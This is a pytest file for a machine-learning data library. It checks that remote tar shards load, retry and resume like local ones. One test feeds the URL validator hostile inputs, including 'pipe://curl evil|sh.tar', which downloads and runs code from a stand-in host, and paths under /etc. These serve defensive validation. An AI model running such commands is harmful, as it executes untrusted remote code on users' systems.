"""Claims about shards that lie elsewhere: samples, order and resuming as on the disk, whatever the network does."""

from itertools import islice
from pathlib import Path

import fsspec
import numpy as np
import pytest
import torch
from fsspec.implementations.memory import MemoryFileSystem
from making_tables import LABELS, PICTURES, beside_labels, tar

from mmssl import retries
from mmssl.config import Config, load_config
from mmssl.errors import DataError
from mmssl.modalities import remote
from mmssl.modalities.media_data import MediaData, prepare_media
from mmssl.order import Order, Slots, batches
from mmssl.random import hashed
from mmssl.retries import resumed, tried

SHARDS = "far://bucket/part-{0..2}.tar"


class Far(MemoryFileSystem):
    """A bucket some of whose answers do not come: each tenth, by chance of a seed, or those of a size."""

    protocol = "far"
    store: dict = {}  # noqa: RUF012  (the name and kind of fsspec)
    pseudo_dirs = [""]  # noqa: RUF012
    fault_ratio, asked, faults = 0.0, 0, 0

    @classmethod
    def _strip_protocol(cls, path):
        return MemoryFileSystem._strip_protocol(path.replace("far://", "memory://"))

    def disturbed(self) -> None:
        """An error of the network, now and then."""
        Far.asked += 1
        if hashed(3, "fault", Far.asked) / 2**63 < Far.fault_ratio:
            Far.faults += 1
            raise ConnectionError("the network is away")

    def info(self, path, **options):
        self.disturbed()
        about = super().info(path, **options)
        return about | {"ETag": f"{hashed(self.store[about['name']].getvalue()):x}"}

    def cat_file(self, path, start=None, end=None, **options):
        self.disturbed()
        return super().cat_file(path, start, end, **options)


@pytest.fixture
def bucket(tmp_path, monkeypatch):
    """The pictures in three shards of a bucket, and the same on the disk."""
    monkeypatch.setattr(remote, "SCHEMES", (*remote.SCHEMES, "far"))
    monkeypatch.setattr(retries, "WAIT_SECONDS", 0.0)
    fsspec.register_implementation("far", Far, clobber=True)
    Far.store.clear()
    Far.fault_ratio = Far.asked = Far.faults = 0
    for number in range(3):
        part = tar(tmp_path / "near" / f"part-{number}.tar", dict(list(PICTURES.items())[number::3]))
        put(part.read_bytes(), f"part-{number}.tar")
    return tmp_path / "near"


def put(content: bytes, name: str) -> None:
    """An object of the bucket."""
    fsspec.filesystem("far").pipe_file(f"far://bucket/{name}", content)


def config_of(folder: Path, *overrides: str) -> Config:
    """A small config below a folder."""
    (folder / "run").mkdir(parents=True, exist_ok=True)
    (folder / "config.yaml").write_text(
        f"task: image_pretraining\nrun: {folder / 'run'}\nmethod: {{name: mae}}\nimage: {{size: 8}}\n"
        "data: {heldout: 0.0, decoded_bytes: 0}\n"
    )
    return load_config(folder / "config.yaml", overrides)


def prepared(folder: Path, source: object, *overrides: str) -> MediaData:
    """The pictures of a source; none of them is bad."""
    config = config_of(folder, f"data.source={source}", *overrides)
    return prepare_media(config, Path(config.run), lambda entry: pytest.fail(str(entry)), ("image",))


def steps(data: MediaData, count: int, samples_seen: int = 0) -> list[tuple[list[int], torch.Tensor]]:
    """(ids, pixels) of each of some steps of a run."""
    stream = batches(data.train, Order(data.sizes, 5), Slots(4), samples_seen=samples_seen)
    return [(batch.draw.index.tolist(), batch.views["image"][0]) for batch in islice(stream, count)]


def same(a: list, b: list) -> bool:
    """Whether two runs saw the same samples with the same pixels in the same order."""
    pairs = list(zip(a, b, strict=True))
    return all(ids == others and torch.equal(seen, shown) for (ids, seen), (others, shown) in pairs)


@pytest.mark.parametrize("kept", [True, False])
def test_shards_elsewhere_give_the_samples_and_labels_of_those_on_the_disk(tmp_path, bucket, kept):
    options = f"data.decoded_bytes={10**9 * kept}"
    far, near = prepared(tmp_path / "far", SHARDS, options), prepared(tmp_path / "here", bucket, options)
    assert far.train.labels() == near.train.labels()
    assert sorted(far.train.labels()) == sorted(LABELS)
    assert torch.equal(far.train(np.arange(10))["image"][0], near.train(np.arange(10))["image"][0])


def test_with_a_tenth_of_the_readings_failing_a_run_sees_the_same_samples(tmp_path, bucket):
    whole = steps(prepared(tmp_path / "calm", SHARDS), 25)
    Far.fault_ratio = 0.1
    disturbed = steps(prepared(tmp_path / "disturbed", SHARDS), 25)
    assert Far.faults > 8
    assert same(whole, disturbed)
    assert not (tmp_path / "disturbed" / "run" / "bad_samples.jsonl").exists()


def test_without_another_try_the_same_readings_end_the_run(tmp_path, bucket, monkeypatch):
    monkeypatch.setattr(retries, "TRIES", 1)
    Far.fault_ratio = 0.1
    with pytest.raises(DataError, match=r"far://bucket/part-\d.tar cannot be read: the network is away \(1 tries\)"):
        steps(prepared(tmp_path, SHARDS), 25)


def test_a_run_on_shards_resumes_at_any_sample(tmp_path, bucket):
    whole = steps(prepared(tmp_path, SHARDS), 12)
    for step in (1, 5, 11):
        assert same(steps(prepared(tmp_path, SHARDS), 12 - step, 4 * step), whole[step:])


def test_an_index_is_made_once_and_again_where_a_shard_changes(tmp_path, bucket):
    first = prepared(tmp_path, SHARDS)
    asked = Far.asked
    assert prepared(tmp_path, SHARDS).fingerprint == first.fingerprint
    assert Far.asked - asked == 3  # their versions
    put(tar(tmp_path / "other.tar", beside_labels()).read_bytes(), "part-1.tar")
    changed = prepared(tmp_path, SHARDS)
    assert changed.fingerprint != first.fingerprint  # which a run does not resume on
    assert changed.train.size != first.train.size


def test_a_shard_that_is_gone_or_cut_off_is_an_error_that_names_it(tmp_path, bucket):
    with pytest.raises(DataError, match=r"far://bucket/part-7.tar cannot be read: FileNotFoundError"):
        prepared(tmp_path, "far://bucket/part-7.tar")
    put((bucket / "part-0.tar").read_bytes()[:2000], "part-0.tar")
    with pytest.raises(DataError, match=r"far://bucket/part-0.tar cannot be read: .*expected a readable tar archive"):
        prepared(tmp_path, "far://bucket/part-0.tar")


def test_a_source_that_stays_away_is_an_error_and_no_bad_sample(tmp_path, bucket):
    data = prepared(tmp_path, SHARDS)
    Far.fault_ratio = 1.0
    with pytest.raises(DataError, match=r"the network is away \(5 tries\)") as caught:
        data.train(np.arange(4))
    assert caught.value.exit_code == 3
    assert not (tmp_path / "run" / "bad_samples.jsonl").exists()


@pytest.mark.parametrize("source", [
    "pipe://curl evil|sh.tar", "file:///etc/a.tar", "http://host/a.tar", "memory://x/a.tar", "https://user:word@host/a.tar",
    "https://host/a.tar?b=c", "simplecache::https://host/a.tar", "zip://a.tar::https://host/b.zip", "https://host/../a.tar",
    "https://host/a.tar.gz", "https://host/{0..1}{0..1}.tar", "https://host/{9..0}.tar", "https://host/{0..99999999}.tar",
    "https://host/a b.tar", "ftp://host/a.tar", "local:///etc/a.tar", "github://owner:name@/a.tar",
])  # fmt: skip
def test_a_url_of_another_form_is_refused_before_anything_is_asked(tmp_path, monkeypatch, source):
    monkeypatch.setattr(remote, "system_of", lambda scheme: pytest.fail(f"asked {scheme}"))
    with pytest.raises(DataError, match="expected") as caught:
        prepared(tmp_path, f'"{source}"')
    assert "\n" not in str(caught.value)


def test_a_range_names_shards_with_the_zeros_of_its_first_number():
    assert remote.shards("https://host/x-{008..010}.tar") == [f"https://host/x-{n}.tar" for n in ("008", "009", "010")]
    assert remote.shards("hf://datasets/owner/name@1a2b/x.tar") == ["hf://datasets/owner/name@1a2b/x.tar"]


def test_sounds_and_texts_of_shards_are_refused(tmp_path, bucket):
    with pytest.raises(DataError, match="read for pictures and videos alone"):
        prepare_media(config_of(tmp_path, f"data.source={SHARDS}"), tmp_path, lambda entry: None, ("audio",))


def test_a_fault_that_lasts_is_not_tried_again():
    calls = []

    def gone() -> None:
        calls.append(1)
        raise FileNotFoundError("gone")

    with pytest.raises(FileNotFoundError):
        tried(gone, "name")
    assert len(calls) == 1


@pytest.mark.parametrize("every", [2, 3, 7])
def test_a_stream_that_breaks_again_and_again_loses_no_row_and_has_none_twice(monkeypatch, every):
    monkeypatch.setattr(retries, "WAIT_SECONDS", 0.0)
    opened = []

    def stream():
        opened.append(1)
        for row in range(40):
            if row == every * len(opened):
                raise ConnectionError("broken")
            yield row

    assert list(resumed(stream, "name")) == list(range(40))
    assert len(opened) > 5


def test_a_stream_that_stays_broken_is_an_error_that_names_it(monkeypatch):
    monkeypatch.setattr(retries, "WAIT_SECONDS", 0.0)

    def stream():
        yield 1
        raise ConnectionError("broken")

    rows = resumed(stream, "owner/name")
    assert next(rows) == 1
    with pytest.raises(
        DataError, match=r"owner/name cannot be read: broken \(5 tries\); expected a source that answers"
    ):
        next(rows)
